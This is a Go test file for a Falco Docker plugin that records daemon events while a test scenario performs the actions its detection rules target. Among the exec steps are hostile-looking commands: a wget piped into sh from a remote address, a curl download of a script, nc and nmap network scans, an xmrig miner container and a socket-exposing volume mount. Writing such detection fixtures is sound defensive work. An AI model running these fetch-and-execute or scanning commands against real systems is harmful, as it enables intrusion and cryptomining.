package rules

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"syscall"
	"testing"
	"time"

	"github.com/falco-docker/plugin/internal/recorder"
	"github.com/falco-docker/plugin/internal/testdocker"
)

// healthCmd is the health check of the fixture's web container: what the
// daemon runs (as "/bin/sh -c "+healthCmd) every interval, emitting the same
// exec_create/exec_start/exec_die events as a user's docker exec. The rules
// file lists it in docker_health_check_commands.
const healthCmd = "curl -fsS http://localhost:8080/healthz"

// hogSource is a program that allocates memory until the kernel kills it:
// run under --memory it makes the daemon report an "oom" event.
const hogSource = `package main

func main() {
	var keep [][]byte
	for {
		b := make([]byte, 1<<20)
		for i := range b {
			b[i] = 1
		}
		keep = append(keep, b)
	}
}
`

// TestRecordRulesFixture records testdata/rules_events.jsonl with the
// shared recorder (internal/recorder): a private dockerd with Swarm,
// followed by the plugin's live source, while rulesScenario performs the
// actions the rules in docker_rules.yaml are about, plus the benign
// neighbours of each (the quiet lines).
//
//	go test ./rules -run TestRecordRulesFixture -record -v
//
// Re-recording may shift line numbers, and changes the hostname in daemon
// and node events when recorded on another machine: update the
// "# fires: ... ; quiet: ..." comments of docker_rules.yaml and the line
// descriptions under them, which this test logs (TestRulesFixture says which
// no longer fit).
func TestRecordRulesFixture(t *testing.T) {
	recorder.SkipUnlessRecording(t)
	testdocker.Require(t)
	lines := recorder.Record(t, plugin, "rules", fixturePath, rulesScenario)
	// The lines as docker_rules.yaml describes them under its
	// "# fires: ... ; quiet: ..." comments, to update those after a new
	// recording.
	for i, line := range lines {
		var ev struct {
			Type, Action string
			Actor        struct {
				ID         string
				Attributes map[string]string
			}
		}
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("line %d is not JSON: %v", i+1, err)
		}
		name := ev.Actor.Attributes["name"]
		if name == "" {
			name = ev.Actor.ID
		}
		t.Logf("#   %d: %s %q %s", i+1, ev.Type, ev.Action, shortName(name))
	}
}

// rulesScenario is what TestRecordRulesFixture records.
func rulesScenario(t *testing.T, dm *testdocker.Daemon, d testdocker.Docker, img string) {
	tmp := t.TempDir()
	hog := buildHog(t, tmp)

	// Tags the scenario uses, all of the test image.
	for _, tag := range []string{"fixture/app:latest", "fixture/app:v2", "xmrig/xmrig:latest"} {
		d.Run(t, "tag", img, tag)
	}

	// A long-running service container: labels, a named volume, a user
	// network, a health check (execs of its own every second).
	d.Run(t, "volume", "create", "app-data")
	d.Run(t, "network", "create", "app-net")
	d.Run(t, "run", "-d", "--name", "web", "--label", "com.docker.compose.project=shop",
		"--label", "com.docker.compose.service=web", "-v", "app-data:/data", "--network", "app-net",
		"--health-cmd", healthCmd, "--health-interval", "1s", img)
	testdocker.WaitFor(t, 30*time.Second, func() bool {
		out, _ := d.Try("inspect", "-f", "{{.State.Health.Status}}", "web")
		return out == "healthy"
	})

	// Execs into it: benign, a shell, recon/download tools, a package manager.
	d.Run(t, "exec", "web", "/bin/tool", "true")
	d.Run(t, "exec", "web", "sh", "-c", "id")
	d.Run(t, "exec", "web", "bash")
	d.Run(t, "exec", "web", "curl", "-s", "-o", "/tmp/x.sh", "http://203.0.113.7/x.sh")
	d.Run(t, "exec", "web", "sh", "-c", "wget -q -O- http://203.0.113.7/i | sh")
	d.Run(t, "exec", "web", "nc", "-zv", "10.0.0.1", "22")
	d.Run(t, "exec", "web", "nmap", "-sS", "10.0.0.0/24")
	d.Run(t, "exec", "web", "apt-get", "install", "-y", "nmap")
	d.Run(t, "commit", "web", "fixture/web-snapshot:1")
	d.Run(t, "stop", "-t", "5", "web") // SIGTERM: a kill event with signal 15

	// Containers from a denied image, an untagged image, a ":latest" one.
	d.Run(t, "run", "-d", "--name", "miner", "xmrig/xmrig:latest")
	d.Run(t, "rm", "-f", "miner") // SIGKILL
	d.Run(t, "run", "--name", "untagged", "fixture/app", "/bin/tool", "true")
	d.Run(t, "run", "--name", "pinned", "fixture/app:v2", "/bin/tool", "true")

	// docker kill: SIGKILL by default.
	d.Run(t, "run", "-d", "--name", "victim", img)
	d.Run(t, "kill", "victim")

	// A container killed by the kernel's OOM killer.
	d.Run(t, "create", "--name", "hog", "--memory", "16m", "--memory-swap", "16m", img, "/hog")
	d.Run(t, "cp", hog, "hog:/hog")
	if _, err := d.Try("start", "-a", "hog"); testdocker.ExitCode(err) != 137 {
		t.Fatalf("hog: want exit code 137 (OOM kill), got %v", err)
	}

	// A named volume bound to a host directory, mounted over /var/run: the
	// way the Docker socket can be handed to a container through a volume
	// (bind mounts, -v /var/run/docker.sock:..., send no volume event).
	hostRun := filepath.Join(tmp, "hostrun")
	if err := os.Mkdir(hostRun, 0o755); err != nil {
		t.Fatal(err)
	}
	d.Run(t, "volume", "create", "--driver", "local", "--opt", "type=none", "--opt", "o=bind",
		"--opt", "device="+hostRun, "host-run")
	d.Run(t, "run", "--name", "sockmount", "-v", "host-run:/var/run", img, "/bin/tool", "true")

	// Networks: host mode, a macvlan network.
	d.Run(t, "run", "--name", "hostnet", "--network", "host", img, "/bin/tool", "true")
	// macvlan needs kernel support that a nested test machine may lack: the
	// rule's host-mode line then stands for both.
	if _, err := d.Try("network", "create", "-d", "macvlan", "fixture-macvlan"); err != nil {
		t.Logf("no macvlan network recorded: %v", err)
	} else {
		d.Run(t, "run", "--name", "macvlan-user", "--network", "fixture-macvlan", img, "/bin/tool", "true")
	}

	// Images: saved, untagged, loaded, imported, deleted.
	d.Run(t, "save", "-o", filepath.Join(tmp, "app.tar"), "fixture/app:latest")
	d.Run(t, "rmi", "fixture/app:latest")
	d.Run(t, "load", "-i", filepath.Join(tmp, "app.tar"))
	d.RunInput(t, string(make([]byte, 1024)), "import", "-", "fixture/imported:1")
	d.Run(t, "rmi", "fixture/imported:1")

	// A plugin created from a local directory, then removed.
	pluginDir := filepath.Join(tmp, "plugin")
	if err := os.MkdirAll(filepath.Join(pluginDir, "rootfs"), 0o755); err != nil {
		t.Fatal(err)
	}
	pluginConfig := `{"description":"fixture volume plugin","documentation":"https://example.invalid",` +
		`"entrypoint":["/bin/tool","sleep","3600"],"interface":{"types":["docker.volumedriver/1.0"],"socket":"fixture.sock"},` +
		`"network":{"type":"host"},"linux":{"capabilities":[]}}`
	if err := os.WriteFile(filepath.Join(pluginDir, "config.json"), []byte(pluginConfig), 0o644); err != nil {
		t.Fatal(err)
	}
	d.Run(t, "plugin", "create", "fixture/volplugin:1", pluginDir)
	d.Run(t, "plugin", "rm", "fixture/volplugin:1")

	// Daemon configuration reload.
	if err := syscall.Kill(dm.PID(), syscall.SIGHUP); err != nil {
		t.Fatalf("SIGHUP dockerd: %v", err)
	}

	// Swarm: secrets, configs, a service through image change and scaling,
	// node availability.
	d.RunInput(t, "s3cr3t", "secret", "create", "db-password", "-")
	d.Run(t, "secret", "rm", "db-password")
	d.RunInput(t, "key: value\n", "config", "create", "app-config", "-")
	d.Run(t, "config", "rm", "app-config")
	d.Run(t, "service", "create", "--detach=false", "--name", "api", "--replicas", "1", "--no-resolve-image", img)
	d.Run(t, "service", "update", "--detach=false", "--no-resolve-image", "--image", "fixture/app:v2", "api")
	d.Run(t, "service", "scale", "--detach=false", "api=2")
	d.Run(t, "service", "scale", "--detach=false", "api=0")
	d.Run(t, "service", "rm", "api")
	node := d.Run(t, "node", "ls", "-q")
	d.Run(t, "node", "update", "--availability", "drain", node)
	d.Run(t, "node", "update", "--availability", "active", node)
	d.Run(t, "node", "update", "--label-add", "zone=a", node)
}

// buildHog compiles hogSource into a static binary under dir.
func buildHog(t *testing.T, dir string) string {
	t.Helper()
	src := filepath.Join(dir, "hogsrc")
	if err := os.MkdirAll(src, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string]string{"go.mod": "module hog.invalid\n\ngo 1.21\n", "main.go": hogSource} {
		if err := os.WriteFile(filepath.Join(src, name), []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	out := filepath.Join(dir, "hog")
	cmd := exec.Command("go", "build", "-trimpath", "-o", out, ".")
	cmd.Dir = src
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux", "GOARCH="+runtime.GOARCH, "GOFLAGS=", "GOWORK=off", "GOTOOLCHAIN=local")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("building the memory hog: %v\n%s", err, b)
	}
	return out
}
